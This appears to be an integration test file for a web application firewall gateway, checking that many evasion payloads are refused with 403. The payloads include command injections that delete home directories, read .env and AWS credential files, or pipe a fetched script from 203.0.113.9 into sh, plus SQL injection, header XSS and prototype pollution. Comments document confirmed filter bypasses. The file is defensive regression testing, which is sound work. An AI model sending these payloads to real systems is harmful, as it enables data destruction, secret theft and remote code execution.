// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 19 (round 12 of the WAF evasion audit): commit 77e4327's changes to the API profile (markdownLayoutAsWords:
 * markdown headings and tables as layout in the prose view; COMMAND_PREFIX in 90111 and the new 90139
 * PREFIXED_DESTRUCTIVE; the rewritten 90137 DOTFILE_READ; 90138 (@detectXSS on custom X- headers); 90109's ORDER BY
 * probing; 90119's fetch chains in headers; prototypePathArgs (array containers skipped, one-element arrays
 * collapsed); 90135 (quoted `"$0"`, `$0<<<`, netcat, interpreter one-liners)).
 * Against the `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a
 * recording upstream, over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream
 * never sees it. The techniques that got through are in the audit's report, not here. `/crs/*` (PL1) and `/crs2/*`
 * (PL2) run the plain CRS profile.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);
/** A POST of a benign JSON body with one extra request header (name, value). */
const hdr = (name: string, value: string): Buffer =>
  req('POST', '/x', [...JSON_CT, [name, value]], J({ name: 'ok' }));

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** The address a ping form expects, before the injected command. */
const IP = '127.0.0.1';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // (1) markdownLayoutAsWords: headings and tables are layout, but SQL around them is still judged.
  {
    name: 'markdown: a heading line, then a quote and or 1=1',
    build: () => json('q', "Notes\n# ' or 1=1\n"),
  },
  {
    name: 'markdown: a heading that ends in a tautology and a MySQL # comment',
    build: () => json('q', "## Order status for the customer' or 1=1#"),
  },
  {
    name: 'markdown: a heading, then a quoted tautology on the next line',
    build: () => json('q', "# Load notes for the driver\n1' or '1'='1"),
  },
  {
    name: 'markdown: a table cell holding a || tautology',
    build: () =>
      json('q', "### Load notes for the driver today\n| Weight | 42,500 lb |\n|---|---|\n| a'||'1'='1 | b |"),
  },
  {
    name: 'markdown: a table cell holding or 1=1',
    build: () => json('q', "| id | name |\n| 1' or 1=1 | x |"),
  },
  {
    name: 'markdown: union select in a table cell',
    build: () =>
      json(
        'q',
        "| Order | Status for the customer |\n|---|---|\n| 7' union select password from users -- | x |",
      ),
  },
  {
    name: 'markdown: sleep() in a table cell',
    build: () => json('q', "| Order for the customer | Status |\n| 7' or sleep(5) or ' | pending |"),
  },
  {
    name: 'markdown: a tautology and comment after a table',
    build: () => json('q', "| The order | is pending |\n| 1 | 2 |\n' or 1=1 -- -"),
  },
  {
    name: 'markdown: a heading line, then a tautology and a # comment',
    build: () => json('user', "# Notes for the shipping driver today\n' or 1=1#"),
  },
  {
    name: 'markdown: union select and a # comment before a table',
    build: () => json('q', "Ship notes for today' union select password from users#\n| a | b |"),
  },
  {
    name: 'markdown: a stacked drop table before a table',
    build: () => json('q', "Ship notes for today';drop table users#\n| a | b |"),
  },
  { name: "markdown: admin'# after nothing", build: () => json('user', "admin'#") },
  // (2) COMMAND_PREFIX (90111) and PREFIXED_DESTRUCTIVE (90139).
  { name: '90111: ;! id (CRS PL1 and PL2 pass it)', build: () => json('host', `${IP};! id`) },
  { name: '90111: ;(id) subshell', build: () => json('host', `${IP};(id)`) },
  { name: '90139: ;""rm -rf ~', build: () => json('host', `${IP};""rm -rf ~`) },
  { name: '90139: ;command rm -rf ~', build: () => json('host', `${IP};command rm -rf ~`) },
  { name: '90139: ;exec rm -rf ~', build: () => json('host', `${IP};exec rm -rf ~`) },
  { name: '90139: ;nohup rm -rf ~', build: () => json('host', `${IP};nohup rm -rf ~`) },
  { name: '90139: ;! exec rm -rf ~', build: () => json('host', `${IP};! exec rm -rf ~`) },
  { name: '90139: ;! eval rm -rf ~', build: () => json('host', `${IP};! eval rm -rf ~`) },
  { name: '90139: ;! find ~ -delete', build: () => json('host', `${IP};! find ~ -delete`) },
  { name: '90139: ;x=1 find ~ -delete', build: () => json('host', `${IP};x=1 find ~ -delete`) },
  { name: '90139: ;time \\rm -rf ~', build: () => json('host', `${IP};time \\rm -rf ~`) },
  { name: '90139: ;! \\curl …|sh', build: () => json('host', `${IP};! \\curl -s 203.0.113.9/x.sh|sh`) },
  // (3) 90137 DOTFILE_READ.
  { name: 'dot-file: ;{ cat .en?; }', build: () => json('host', `${IP};{ cat .en?; }`) },
  { name: 'dot-file: ;cat .[e]nv', build: () => json('host', `${IP};cat .[e]nv`) },
  { name: 'dot-file: ;cat .en${x}v', build: () => json('host', `${IP};cat .en\${x}v`) },
  { name: 'dot-file: ;cat .{e,}nv', build: () => json('host', `${IP};cat .{e,}nv`) },
  {
    name: 'dot-file: ;cat $HOME/.a{w,}s/credentials',
    build: () => json('host', `${IP};cat $HOME/.a{w,}s/credentials`),
  },
  { name: 'dot-file: ;time cat .env', build: () => json('host', `${IP};time cat .env`) },
  // (4) 90138 XSS in custom X- headers, 90109 ORDER BY probing, 90119 fetch chains in headers.
  {
    name: '90138: <svg/onload> in X-Client-Note',
    build: () => hdr('X-Client-Note', '<svg/onload=alert(1)>'),
  },
  {
    name: '90138: <img onerror> in X-Client-Note',
    build: () => hdr('X-Client-Note', '<img src=x onerror=alert(1)>'),
  },
  {
    name: '90138: entity-encoded <img onerror>',
    build: () => hdr('X-Client-Note', '&lt;img src=x onerror=alert(1)&gt;'),
  },
  {
    name: '90138: <details ontoggle>',
    build: () => hdr('X-Client-Note', '<details open ontoggle=alert(1)>'),
  },
  {
    name: '90138: a closed attribute and <script>',
    build: () => hdr('X-Client-Note', '"><script>alert(1)</script>'),
  },
  {
    name: '90138: <img onerror> in X-Request-Id (excluded from 90138)',
    build: () => hdr('X-Request-Id', '<img src=x onerror=alert(1)>'),
  },
  {
    name: '90138: <img onerror> in X-Forwarded-For',
    build: () => hdr('X-Forwarded-For', '<img src=x onerror=alert(1)>'),
  },
  { name: '90109: name ORDER BY 9#', build: () => json('sort', 'name ORDER BY 9#') },
  { name: '90109: name ORDER  BY 9 -- -', build: () => json('sort', 'name ORDER  BY 9 -- -') },
  { name: '90109: ORDER BY 9;-- -', build: () => json('sort', 'name ORDER BY 9;-- -') },
  {
    name: '90109: ORDER BY in a query parameter',
    build: () => get(`/api/items?sort=${E('name ORDER BY 9 -- -')}`),
  },
  {
    name: '90119: busybox wget …|sh in a header',
    build: () => hdr('X-Debug', 'x;busybox wget 203.0.113.9/x.sh -O-|sh'),
  },
  { name: '90119: ;! curl …|sh in a header', build: () => hdr('X-Debug', 'x;! curl 203.0.113.9/x.sh|sh') },
  { name: '90119: ;\\curl …|sh in a header', build: () => hdr('X-Debug', 'x;\\curl 203.0.113.9/x.sh|sh') },
  // (5) prototypePathArgs.
  {
    name: 'proto path: [__proto__, isAdmin] beside a path.0.x key',
    build: () => doc({ path: ['__proto__', 'isAdmin'], 'path.0.x': 1 }),
  },
  {
    name: 'proto path: constructor.prototype beside a path.9.x key',
    build: () => doc({ path: ['constructor', 'prototype', 'isAdmin'], 'path.9.x': 1 }),
  },
  {
    name: 'proto path: nested, beside a path.0 key',
    build: () => doc({ a: { path: ['constructor', 'prototype', 'isAdmin'], 'path.0': 1 } }),
  },
  // (6) 90135: the shell re-run.
  { name: '$0: ;"$0"<<<id', build: () => json('host', `${IP};"$0"<<<id`) },
  { name: '$0: ;$0 <<<id', build: () => json('host', `${IP};$0 <<<id`) },
  { name: '$0: ;echo id|"$0"', build: () => json('host', `${IP};echo id|"$0"`) },
  { name: '$0: ;"${0}" -c id', build: () => json('host', `${IP};"\${0}" -c id`) },
  { name: '$0: ;${0:-} -c id', build: () => json('host', `${IP};\${0:-} -c id`) },
  { name: '$0: ;${0#x} -c id', build: () => json('host', `${IP};\${0#x} -c id`) },
  { name: '$0: ;$0 -x -c id', build: () => json('host', `${IP};$0 -x -c id`) },
  { name: '$0: ;$0 -xc id', build: () => json('host', `${IP};$0 -xc id`) },
  { name: '$0: ;$0 -s <<<id', build: () => json('host', `${IP};$0 -s <<<id`) },
  { name: ';$SHELL -c id', build: () => json('host', `${IP};$SHELL -c id`) },
  { name: ';$BASH -c id', build: () => json('host', `${IP};$BASH -c id`) },
];

function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

// Audit 19's bypasses, each confirmed against dash/bash, Node or sqlite3 at the time (200, the upstream received
// it), closed the same session: refused now.
// Audit 19's bypasses of the API profile (route `/*`, CRS v4.28.0 PL1 blocking, commit 77e4327), each answered 200
// by the gateway and received by the upstream. Same shapes as test/integration/audit19-waf-evasion.test.ts (json,
// doc, hdr, IP, J, E, Case, H2_POST). IP = '127.0.0.1'.
// "Confirmed" means: the value interpolated into `sh -c "ping -c 1 $host"` (simulated as `echo ping -c 1 $v`) in a
// throwaway directory with a fake $HOME and a fake .env, under dash 0.5 and bash 5 (`rm -rf ~` deleted the fake
// $HOME; `id` printed uid=0; `cat` printed the .env; curl|sh: strace showed curl and sh exec'd).

const BYPASS_CASES: readonly Case[] = [
  // B1 (RCE; CRS PL1 passes all; PL2 passes B1, B1b, B1c, B1e, B1f, B1g, B1j and refuses the others). INTERPRETER_ONE_LINER (90135, rules.ts) wants `$0` then
  // whitespace then `-[a-z]` or `<<<`; a `+x` / `+e` option (turn an option OFF, valid for dash and bash) before
  // `-c` is not matched, and the command inside the quoted -c argument has no command position for CRS.
  // Confirmed: dash and bash deleted the fake $HOME, printed uid=0, printed the .env; curl|sh exec'd curl and sh.
  {
    name: 'B1 ;$0 +x -c "rm -rf ~" (a +option before -c; 90135 wants -[a-z] right after $0)',
    build: () => json('host', `${IP};$0 +x -c 'rm -rf ~'`),
  },
  { name: 'B1b ;$0 +x -c id (passes CRS PL2 too)', build: () => json('host', `${IP};$0 +x -c id`) },
  { name: 'B1c ;$0 +e -c "cat .env"', build: () => json('host', `${IP};$0 +e -c 'cat .env'`) },
  {
    name: 'B1d ;$0 +x -c "curl …|sh" (CRS PL2 refuses this one)',
    build: () => json('host', `${IP};$0 +x -c "curl -s 203.0.113.9/x.sh|sh"`),
  },
  {
    name: 'B1e a file name field: report.pdf;$0 +x -c "rm -rf ~"',
    build: () => json('name', 'report.pdf;$0 +x -c "rm -rf ~"'),
  },
  { name: 'B1f ⏎$0 +x -c id on a line of its own', build: () => json('host', `${IP}\n$0 +x -c id`) },
  {
    name: 'B1g prose line, then $0 +x -c id',
    build: () => json('note', 'Build failed at step two\n$0 +x -c id'),
  },
  { name: "B1h ;$0 '-c' id (a quoted option)", build: () => json('host', `${IP};$0 '-c' id`) },
  { name: 'B1i ;$0 "-c" id', build: () => json('host', `${IP};$0 "-c" id`) },
  {
    name: 'B1j ;x="a b" $0 -c id (a quoted assignment before $0; CRS PL2 passes it)',
    build: () => json('host', `${IP};x="a b" $0 -c id`),
  },
  // bash only: `$0 - <<<id` (dash has no here-strings).
  {
    name: 'B1k ;$0 - <<<id (bash; 90135 wants <<< right after $0)',
    build: () => json('host', `${IP};$0 - <<<id`),
  },

  // B2 (destruction / RCE; CRS PL1 and PL2 pass all but B2k). COMMAND_PREFIX (rules.ts, used by 90111, 90135, 90137 and
  // PREFIXED_DESTRUCTIVE 90139) takes an assignment as `NAME=[^\s;|&]{0,60}\s+`: a quoted value holding a space
  // (`x="a b" `, `x='a b' `, `x=$'a b' `) ends the match inside the quotes, so the command after it is never
  // reached. Confirmed: dash and bash deleted the fake $HOME, printed uid=0, printed the .env, exec'd curl and sh.
  {
    name: 'B2 ;x="a b" rm -rf ~ (an assignment with a quoted space; COMMAND_PREFIX wants no space in the value)',
    build: () => json('host', `${IP};x="a b" rm -rf ~`),
  },
  { name: "B2b ;x='a b' id", build: () => json('host', `${IP};x='a b' id`) },
  { name: 'B2c ;x="a b" cat .env', build: () => json('host', `${IP};x="a b" cat .env`) },
  { name: 'B2d ;x="a b" cat .en? (glob too)', build: () => json('host', `${IP};x="a b" cat .en?`) },
  {
    name: 'B2e ;x="a b" curl -s …|sh',
    build: () => json('host', `${IP};x="a b" curl -s 203.0.113.9/x.sh|sh`),
  },
  { name: 'B2f ;A="x y" B=1 rm -rf ~', build: () => json('host', `${IP};A="x y" B=1 rm -rf ~`) },
  {
    name: "B2g ;x=$'a b' rm -rf ~ (ANSI-C quoting in bash; dash assigns the literal)",
    build: () => json('host', `${IP};x=$'a b' rm -rf ~`),
  },
  {
    name: 'B2h report.pdf;x="a b" curl …|sh in a file name field',
    build: () => json('name', 'report.pdf;x="a b" curl -s 203.0.113.9/x.sh|sh'),
  },
  {
    name: 'B2i prose line, then x="a b" rm -rf ~ (family c too)',
    build: () => json('note', 'Build failed at step two\nx="a b" rm -rf ~'),
  },
  {
    name: 'B2j a query parameter: ;x="a b" rm -rf ~',
    build: () => get(`/api/ping?host=${E(`${IP};x="a b" rm -rf ~`)}`),
  },
  {
    name: 'B2k thirteen assignments then rm -rf ~ (COMMAND_PREFIX allows twelve; CRS PL2 refuses)',
    build: () => json('host', `${IP};x=1 y=2 z=3 a=4 b=5 c=6 d=7 e=8 f=9 g=10 h=11 i=12 j=13 rm -rf ~`),
  },

  // B3 (destruction; CRS PL1 passes, PL2 refuses). PREFIXED_DESTRUCTIVE (90139) wants the command word spelled
  // plainly after the prefix: a backslash, an empty quote or quotes around it (`\rm`, `r""m`, `'rm'`) hide it,
  // and `time` is no prefix it knows (nor 90111's). Confirmed: dash and bash deleted the fake $HOME.
  {
    name: 'B3 ;! \\rm -rf ~ (escaped command word after the prefix)',
    build: () => json('host', `${IP};! \\rm -rf ~`),
  },
  { name: 'B3b ;! r""m -rf ~', build: () => json('host', `${IP};! r""m -rf ~`) },
  { name: "B3c ;! 'rm' -rf ~", build: () => json('host', `${IP};! 'rm' -rf ~`) },
  {
    name: 'B3d ;time rm -rf ~ (time is no prefix to 90139)',
    build: () => json('host', `${IP};time rm -rf ~`),
  },
  {
    name: "B3e prose line, then ! 'rm' -rf ~",
    build: () => json('note', "Build failed at step two\n! 'rm' -rf ~"),
  },
  {
    name: 'B3f prose line, then time rm -rf ~',
    build: () => json('note', 'Build failed at step two\ntime rm -rf ~'),
  },
  { name: 'B3g ;time id (CRS PL2 passes it too)', build: () => json('host', `${IP};time id`) },

  // B4 (secrets disclosure; CRS PL1 passes, PL2 refuses). DOTFILE_READ (90137) matches `.env` literally or a glob
  // spelling; shell quoting inside the name (`.e\nv`, `."env"`, `.e''nv`, `.\env`) is removed by the shell and
  // matches neither; nor does a quoted reader after `!` (`! 'cat' .env`). Confirmed: dash and bash printed the .env.
  {
    name: 'B4 ;cat .e\\nv (a backslash inside the dot-file name)',
    build: () => json('host', `${IP};cat .e\\nv`),
  },
  { name: 'B4b ;cat ."env"', build: () => json('host', `${IP};cat ."env"`) },
  { name: "B4c ;cat .e''nv", build: () => json('host', `${IP};cat .e''nv`) },
  { name: 'B4d ;cat .\\env', build: () => json('host', `${IP};cat .\\env`) },
  { name: "B4e ;! 'cat' .env", build: () => json('host', `${IP};! 'cat' .env`) },

  // B5 (prototype pollution; CRS PL1 and PL2 pass it). prototypePathArgs (expand.ts, commit 77e4327) skips every
  // arg name that is a prefix of another (`containers`: meant for the JSON processor's array-length entries), but
  // a client can add a sibling key whose literal name holds dots (`"path.1.x": 1`): `json.path.1` is then a
  // "container", the path breaks at index 1 and `constructor.prototype` is never joined. With `"path.0.x"` the
  // `constructor` element itself is dropped. Confirmed in Node 24: a naive `set(obj, body.path, true)`
  // (`t = t[k] ??= {}` per key) set Object.prototype.isAdmin = true; the object-with-index-keys form too.
  {
    name: 'B5 path [constructor, prototype, isAdmin] beside a key named "path.1.x" (the element is taken for a container)',
    build: () => doc({ path: ['constructor', 'prototype', 'isAdmin'], 'path.1.x': 1, v: true }),
  },
  {
    name: 'B5b path [constructor, prototype, isAdmin] beside a key named "path.0.x"',
    build: () => doc({ path: ['constructor', 'prototype', 'isAdmin'], 'path.0.x': 1 }),
  },
  {
    name: 'B5c an object with index keys beside a key named "0.x"',
    build: () => doc({ p: { 0: 'constructor', 1: 'prototype', 2: 'isAdmin', '0.x': 1 } }),
  },

  // B6 (RCE through a header that reaches a shell; CRS PL1 and PL2 pass all). HEADER_COMMAND (90119) wants
  // `curl`/`wget` spelled plainly after a separator or before `… | sh`; shell quoting in the program name, `${IFS}`
  // for the space, or BSD `fetch` evade it. Confirmed: `sh -c "echo log $HDR"` under dash and bash exec'd curl (or
  // wget) and sh (strace).
  {
    name: "B6 X-Debug: x;c''url …|sh (quotes inside the program name)",
    build: () => hdr('X-Debug', "x;c''url 203.0.113.9/x.sh|sh"),
  },
  { name: 'B6b X-Debug: x;"c"url -s …|sh', build: () => hdr('X-Debug', 'x;"c"url -s 203.0.113.9/x.sh|sh') },
  {
    name: 'B6c X-Debug: x;wge\\t -qO- …|sh',
    build: () => hdr('X-Debug', 'x;wge\\t -qO- 203.0.113.9/x.sh|sh'),
  },
  { name: 'B6d X-Debug: x;curl${IFS}…|sh', build: () => hdr('X-Debug', 'x;curl${IFS}203.0.113.9/x.sh|sh') },
  { name: "B6e X-Debug: x;! c''url …|sh", build: () => hdr('X-Debug', "x;! c''url 203.0.113.9/x.sh|sh") },
  { name: 'B6f X-Debug: x;$0 +x -c id', build: () => hdr('X-Debug', 'x;$0 +x -c id') },

  // B7 (SQL column-count probing; the PROFILE lets through what CRS PL1 refuses). 90109's new ORDER BY branch
  // (`^[\w.`"\[\]]{1,64}\s+order\s+by\s+[0-9]{1,3}\s*(?:--|#|/\*)`) wants one column number right before the
  // comment: a list (`1,2,3`), a parenthesised name or a hex number escape it, and the family that waives CRS's
  // SQL rules for the value keeps 942xxx off. Confirmed in sqlite3: `select * from items where id = name order by
  // 1,2,3-- -` runs and `… order by 1,2,4-- -` fails ("3rd ORDER BY term out of range"): a column-count oracle.
  {
    name: 'B7 name order by 1,2,3-- - (a list; CRS PL1 refuses)',
    build: () => json('sort', 'name order by 1,2,3-- -'),
  },
  { name: 'B7b (name) ORDER BY 9-- -', build: () => json('sort', '(name) ORDER BY 9-- -') },
  { name: 'B7c name ORDER BY 0x9-- -', build: () => json('sort', 'name ORDER BY 0x9-- -') },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'markdown table cell or 1=1',
    headers: H2_POST,
    body: J({ q: "| id | name |\n| 1' or 1=1 | x |" }),
  },
  { name: ';! id', headers: H2_POST, body: J({ host: `${IP};! id` }) },
  { name: ';{ cat .en?; }', headers: H2_POST, body: J({ host: `${IP};{ cat .en?; }` }) },
  { name: '"$0"<<<id', headers: H2_POST, body: J({ host: `${IP};"$0"<<<id` }) },
  {
    name: 'X- header <img onerror>',
    headers: { ...H2_POST, 'x-client-note': '<img src=x onerror=alert(1)>' },
    body: J({ name: 'ok' }),
  },
  {
    name: 'query parameter: ;! exec rm -rf ~',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};! exec rm -rf ~`)}` },
  },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'B1 over h2', headers: H2_POST, body: J({ host: `${IP};$0 +x -c 'rm -rf ~'` }) },
  { name: 'B2 over h2', headers: H2_POST, body: J({ host: `${IP};x="a b" rm -rf ~` }) },
  { name: 'B3 over h2', headers: H2_POST, body: J({ host: `${IP};! 'rm' -rf ~` }) },
  { name: 'B4 over h2', headers: H2_POST, body: J({ host: `${IP};cat ."env"` }) },
  {
    name: 'B5 over h2',
    headers: H2_POST,
    body: J({ path: ['constructor', 'prototype', 'isAdmin'], 'path.1.x': 1 }),
  },
  {
    name: 'B6 over h2',
    headers: { ...H2_POST, 'x-debug': "x;c''url 203.0.113.9/x.sh|sh" },
    body: J({ name: 'ok' }),
  },
  {
    name: 'B1 over h2 (query parameter)',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E(`${IP};$0 +x -c id`)}` },
  },
];

describe(
  'audit19: WAF evasions of commit 77e4327 (markdown layout, command prefixes, dot-file reads, X- header XSS, ORDER BY probing, header fetch chains, prototype paths, $0) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit19-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('note', 'the link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken'),
        json('msg', 'You have {count, plural, one {# new message} other {# new messages}} from {name}'),
        json('note', '### Load notes\n| Weight | 42,500 lb |\n|---|---|\n| Pallets | 26 |'),
        hdr('X-Client-Note', 'checkout flow, step 2 of 3'),
        json(
          'note',
          'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: id',
        ),
        doc({ path: ['profile', 'settings', 'theme'] }),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
